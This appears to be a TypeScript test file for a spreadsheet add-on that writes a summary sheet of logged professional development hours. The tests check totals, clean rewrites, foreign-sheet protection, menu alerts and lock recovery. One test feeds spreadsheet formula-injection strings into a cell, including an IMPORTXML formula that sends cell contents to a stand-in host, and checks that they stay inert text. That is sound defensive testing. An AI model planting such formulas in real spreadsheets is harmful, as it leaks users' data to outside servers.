// The Summary sheet, through the built bundle: it adds up, holds text as text, and replaces only itself.
import type { ICellData } from '@univerjs/core';
import { openTestHost, SET_UP, sampleRows, type TestCell } from '../open-test-host';

const NOW = () => Date.UTC(2026, 10, 23, 18);
const SUMMARY = 'AL-CTO Summary';

async function open(log: TestCell[][], more: Record<string, TestCell[][]> = {}) {
  const host = await openTestHost({ 'PD Log': log, 'AL-CTO Setup': SET_UP, ...more }, { now: NOW });
  const cells = () => {
    const { sheetOrder, sheets } = host.toWorkbookFile().snapshot;
    const id = sheetOrder.find((each) => sheets[each]?.name === SUMMARY) ?? '';
    return Object.values(sheets[id]?.cellData ?? {}).map((row) =>
      Object.values(row as Record<string, ICellData>),
    );
  };
  return { host, cells };
}

test('every counted row is listed under its course, and the courses add up', async () => {
  const { host, cells } = await open(sampleRows());
  host.call('makeSummary');
  const lines = cells().map((row) => row.map(({ v }) => v));
  const start = lines.findIndex(([first]) => first === 'Activities that count');
  const end = lines.findIndex(([first]) => first === 'Planned, not counted yet');
  // The two last columns: hours, and the row of the log.
  const listed = lines
    .slice(start, end)
    .filter((line) => typeof line[line.length - 1] === 'number');
  const activities = listed.filter((line) => line.length === 39);
  expect(activities).toHaveLength(27);
  expect(activities.reduce((sum, line) => sum + Number(line[37]), 0)).toBeCloseTo(85.5);
});

test.each([
  '=IMPORTXML("https://x.test/?d="&A2,"//a")',
  '+1+1',
  '@x',
  '-2+3',
  '＝1+1',
  ' =1+1',
  "'quoted",
])('the text %s stays text in it', async (text) => {
  const log = sampleRows();
  log[4] = (log[4] ?? []).map((cell, column) => (column === 2 ? { v: text, t: 1 } : cell));
  const { host, cells } = await open(log);
  expect(host.call('makeSummary')).toMatchObject({ ok: true });
  const all = cells().flat();
  expect(all.filter(({ f }) => f)).toEqual([]);
  expect(all.map(({ v }) => String(v).trim())).toContain(text.trim());
});

test('a shorter one leaves nothing of the longer behind', async () => {
  const { host, cells } = await open(sampleRows());
  host.call('makeSummary', { applicant: 'Sample Candidate' });
  host.call('makeSummary', { applicant: 'Pat Placeholder', issued: '2024-06-15' });
  const texts = cells()
    .flat()
    .map(({ v }) => String(v));
  expect(texts).toContain('Pat Placeholder');
  expect(texts.join('\n')).not.toContain('FETC 2025');
});

test('a sheet of that name that is not ours is left alone', async () => {
  const mine: TestCell[][] = [['My own notes', 5]];
  const { host, cells } = await open(sampleRows(), { [SUMMARY]: mine });
  expect(host.call('makeSummary')).toMatchObject({
    ok: false,
    faults: [{ code: 'SUMMARY_FOREIGN' }],
  });
  expect(cells().map((row) => row.map(({ v }) => v))).toEqual([['My own notes', 5]]);
});

test('from the menu it says what it did, or why not', async () => {
  const alerts: string[] = [];
  const writeAll = async (more: Record<string, TestCell[][]>) => {
    const { host } = await open(sampleRows(), more);
    host.watch({ alert: (text) => alerts.push(text) });
    host.runMenuItem('makeSummaryFromMenu');
  };
  await writeAll({});
  await writeAll({ [SUMMARY]: [['My own notes']] });
  await writeAll({
    'AL-CTO Setup': [
      ['Issue date', 'soon'],
      ['Expiration date', 'later'],
    ],
  });
  expect(alerts.slice(0, 2)).toEqual([
    `The sheet “${SUMMARY}” is up to date for Sample Candidate.`,
    `The sheet “${SUMMARY}” was not created by this add-on, so it was left alone. Rename it, then try again.`,
  ]);
  expect(alerts[2]?.split('\n')).toHaveLength(2);
});

test('after a write that failed, the lock is free and the next one is whole', async () => {
  const { host, cells } = await open(sampleRows());
  const busy = await openTestHost(
    { 'PD Log': sampleRows(), 'AL-CTO Setup': SET_UP },
    { now: NOW, beforeCall: (name) => failAt(name) },
  );
  let failing = false;
  function failAt(name: string) {
    if (failing && name === 'Range.setValues') throw new Error('Service unavailable');
  }
  failing = true;
  expect(() => busy.call('makeSummary')).toThrow('Service unavailable');
  failing = false;
  expect(busy.call('makeSummary')).toMatchObject({ ok: true });
  expect(host.call('makeSummary')).toMatchObject({ ok: true });
  expect(cells().length).toBeGreaterThan(40);
});
